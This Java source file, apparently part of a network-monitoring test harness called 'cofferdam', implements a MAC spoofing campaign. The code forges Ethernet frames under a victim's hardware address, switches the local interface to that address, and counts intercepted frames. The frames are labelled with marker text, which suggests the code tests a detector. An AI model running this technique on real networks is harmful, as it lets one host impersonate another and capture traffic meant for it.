package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.address.MacAddress;
import cofferdam.monitor.packet.Ethernet;

import java.time.Duration;
import java.util.List;
import java.util.Optional;

/** One run of {@link MacSpoofing}; the forged frames are {@link Marker}s. */
final class SpoofingCampaign implements Attack.Campaign {

    private final Foothold foothold;
    private final AddressResolution victims;
    private final int frames;
    private final Duration interval;
    private final Duration hold;
    private boolean ready;
    private boolean cloned;
    private boolean counting;
    private long taken;

    SpoofingCampaign(Foothold foothold, int frames, Duration interval, Duration hold) {
        this.foothold = foothold;
        this.frames = frames;
        this.interval = interval;
        this.hold = hold;
        victims = new AddressResolution(foothold);
    }

    void begin() {
        foothold.listen(this::heard);
        victims.begin(this::spoof);
    }

    @Override
    public boolean ready() {
        return ready;
    }

    @Override
    public void stop() {
        if (stopped()) {
            return;
        }
        endHold();
        if (cloned) {
            foothold.nic().changeAddress(foothold.hardware());
        }
        foothold.close();
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void heard(byte[] frame) {
        victims.heard(frame);
        if (counting && victims.of(spoofed()).equals(Optional.of(Ethernet.destination(frame)))) {
            taken++;
        }
    }

    private Ipv4Address spoofed() {
        return foothold.victims().getFirst();
    }

    private void spoof() {
        Optional<MacAddress> mac = victims.of(spoofed());
        if (mac.isEmpty()) {
            foothold.report("nothing to forge without the address of " + spoofed());
            ready = true;
            return;
        }
        foothold.agenda()
                .repeat(
                        interval,
                        frames,
                        index -> forge(mac.get(), index),
                        () -> becomeClone(mac.get()));
    }

    private void forge(MacAddress mac, int index) {
        String text = "cofferdam mac-spoofing forged " + (index + 1) + " of " + frames;
        List<Ipv4Address> others =
                foothold.victims().subList(1, foothold.victims().size());
        for (Ipv4Address other : others) {
            victims.of(other).ifPresent(at -> send(mac, at, other, index, text + " unicast"));
        }
        send(mac, MacAddress.BROADCAST, Marker.EVERYBODY, index, text + " broadcast");
    }

    private void becomeClone(MacAddress mac) {
        foothold.report("sent " + frames + " forged frames as " + mac + " to each addressee");
        foothold.nic().changeAddress(mac);
        cloned = true;
        counting = true;
        ready = true;
        int times = (int) Math.max(1, Math.min(hold.dividedBy(interval), Integer.MAX_VALUE));
        foothold.agenda().repeat(interval, times, index -> show(mac, index), () -> {});
        foothold.agenda().after(hold, this::endHold);
    }

    /**
     * Lets the switch see the address at the clone's port; without a frame it would learn nothing.
     */
    private void show(MacAddress mac, int index) {
        if (counting) {
            String text = "cofferdam mac-spoofing clone " + (index + 1);
            send(mac, MacAddress.BROADCAST, Marker.EVERYBODY, index, text);
        }
    }

    private void endHold() {
        if (counting) {
            counting = false;
            foothold.report("took " + taken + " frames for " + spoofed() + " as its clone");
        }
    }

    /**
     * Every other packet is under the attacker's own protocol address: a filter of protocol addresses
     * alone must not look as if it knew false hardware addresses.
     */
    private void send(MacAddress mac, MacAddress to, Ipv4Address target, int index, String text) {
        Ipv4Address from = index % 2 == 0 ? spoofed() : foothold.protocol();
        foothold.transmitter()
                .send(Marker.frame(
                        new Marker.Hardware(mac, to),
                        new Marker.Protocol(from, target),
                        index + 1,
                        text));
    }
}
